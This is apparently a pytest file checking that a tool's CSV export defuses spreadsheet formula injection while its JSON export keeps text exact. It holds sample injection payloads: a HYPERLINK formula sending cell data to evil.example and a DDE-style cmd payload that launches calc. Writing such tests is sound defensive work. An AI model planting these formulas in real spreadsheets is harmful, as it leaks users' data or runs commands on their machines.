"""facts.csv cannot run formulas in a spreadsheet (OWASP "CSV injection"); facts.json keeps the exact text."""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest
from conftest import SEED

from explainer.cli import main
from explainer.exports import cell

HOSTILE = {
    "claim": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "attribution": "@SUM(1+1)*cmd|' /C calc'!A0",
    "qualifier": "+at least",
    "label": "-2+3",
}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_gets_a_leading_quote(start: str) -> None:
    assert cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["", "SBU", "102 soldiers", "a=b", "'quoted", " =spaced", "“=curly”"])
def test_other_text_is_left_as_written(text: str) -> None:
    assert cell(text) == text


def test_hostile_fields_are_inert_in_csv_and_exact_in_json(project) -> None:
    project.edit("content/facts.yaml", "claim: SBU commandos captured at least 102 Russian soldiers on a Wednesday.",
                 f"claim: {json.dumps(HOSTILE['claim'])}")
    project.edit("content/facts.yaml", "attribution: the SBU", f"attribution: {json.dumps(HOSTILE['attribution'])}")
    project.edit("content/facts.yaml", "qualifier: at least", f"qualifier: {json.dumps(HOSTILE['qualifier'])}")
    project.edit("content/facts.yaml", 'label: "SBU, one day"', f"label: {json.dumps(HOSTILE['label'])}")
    project.edit("content/facts.yaml", "value: 102", "value: -102")
    assert main(["build", "--project", str(project.root)]) == 0
    raw = (project.output / "facts.csv").read_text(encoding="utf-8")
    row = next(r for r in csv.DictReader(io.StringIO(raw, newline="")) if r["id"] == "sbu-102")
    assert row["claim"] == "'" + HOSTILE["claim"]
    assert row["attribution"] == "'" + HOSTILE["attribution"]
    assert row["figure_qualifier"] == "'" + HOSTILE["qualifier"]
    assert row["figure_label"] == "'" + HOSTILE["label"]
    assert row["figure_value"] == "-102", "a number the build writes stays a number"
    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"' in raw, "quoted as RFC 4180 wants"
    fact = json.loads((project.output / "facts.json").read_text(encoding="utf-8"))["facts"][0]
    assert (fact["claim"], fact["attribution"]) == (HOSTILE["claim"], HOSTILE["attribution"])
    assert (fact["figure"]["qualifier"], fact["figure"]["label"]) == (HOSTILE["qualifier"], HOSTILE["label"])


def test_a_quote_starting_with_a_minus_is_neutralised_in_csv_only(project) -> None:
    project.edit("content/facts.yaml", 'quote: "could range from 50 to 95 soldiers"',
                 'quote: "-could range from 50 to 95 soldiers"')
    project.edit("seeds/a.txt", "could range", "-could range")
    old, new = (hashlib.sha256(text.encode("utf-8")).hexdigest() for text in
                (SEED, (project.root / "seeds" / "a.txt").read_text(encoding="utf-8")))
    project.edit("content/sources.yaml", old, new)  # the archive changed on purpose: record its new hash
    assert main(["build", "--project", str(project.root)]) == 0
    raw = (project.output / "facts.csv").read_text(encoding="utf-8")
    row = next(r for r in csv.DictReader(io.StringIO(raw, newline="")) if r["id"] == "swap-sizes")
    assert row["quotes"] == "'-could range from 50 to 95 soldiers"
    facts = json.loads((project.output / "facts.json").read_text(encoding="utf-8"))["facts"]
    assert facts[1]["citations"][0]["quote"] == "-could range from 50 to 95 soldiers"
